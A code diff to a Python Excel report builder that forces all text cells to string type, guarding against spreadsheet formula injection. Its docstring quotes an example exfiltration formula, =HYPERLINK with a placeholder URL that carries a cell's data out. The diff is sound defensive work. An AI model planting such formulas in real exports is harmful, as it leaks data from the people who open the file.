@@ -173,7 +173,18 @@ def build_workbook(report: dict[str, Any], config: Config) -> Workbook:
     _sheet(workbook, "Kerja Sama", AGREEMENTS, report["agreements"])
     _sheet(workbook, "Terlambat", OVERDUE, report["overdue"])
     _sheet(workbook, "Segera Berakhir", EXPIRING, report["expiring"])
+    for sheet in workbook.worksheets:
+        _as_text(sheet)
     return workbook
+
+
+def _as_text(sheet: Any) -> None:
+    """Every text value a string cell: openpyxl makes a text starting with "=" a formula,
+    so a title like =HYPERLINK("http://...?d="&B2) would run in the reader's Excel."""
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
 
 
 def write_report_xlsx(report: dict[str, Any], config: Config, target: Path) -> None:
